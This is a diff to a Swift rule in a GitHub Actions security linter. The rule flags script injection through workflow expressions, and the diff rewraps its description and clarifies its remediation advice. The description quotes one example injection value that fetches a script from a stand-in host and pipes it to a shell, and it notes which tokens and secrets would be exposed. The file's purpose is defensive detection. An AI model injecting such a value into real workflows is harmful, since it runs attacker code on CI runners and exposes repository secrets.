@@ -31,10 +31,11 @@ struct ScriptInjection: Rule {
             request body, a comment or a branch name such as `a";curl evil.sh|sh;"` then runs as code on the runner \
             (or the deploy host), with the job's `GITHUB_TOKEN` and every secret the job can read. Moving the value \
             into `env:` does not help while the script still reads it as `${{ env.X }}`: that is substituted the \
-            same way; only the shell's own `"$X"` is safe. High: anyone who can open an issue or a pull request can trigger it; critical in \
-            practice on `issue_comment` and `pull_request_target`, which run with write tokens and secrets.
+            same way; only the shell's own `"$X"` is safe. High: anyone who can open an issue or a pull request \
+            can trigger it; critical in practice on `issue_comment` and `pull_request_target`, which run with \
+            write tokens and secrets.
             """,
-        recommendation: "Pass the value through an environment variable and quote it in the shell: `env: TITLE: ${{ github.event.issue.title }}` then `echo \"$TITLE\"`.",
+        recommendation: "Pass the value through an environment variable and quote it in the shell: `env: TITLE: ${{ github.event.issue.title }}` then `echo \"$TITLE\"` (the shell's variable, never `${{ env.TITLE }}`).",
         equivalents: [.checkov("CKV_GHA_2"), Equivalent(tool: "zizmor", id: "template-injection")],
         triggering: [
             RuleExample("""
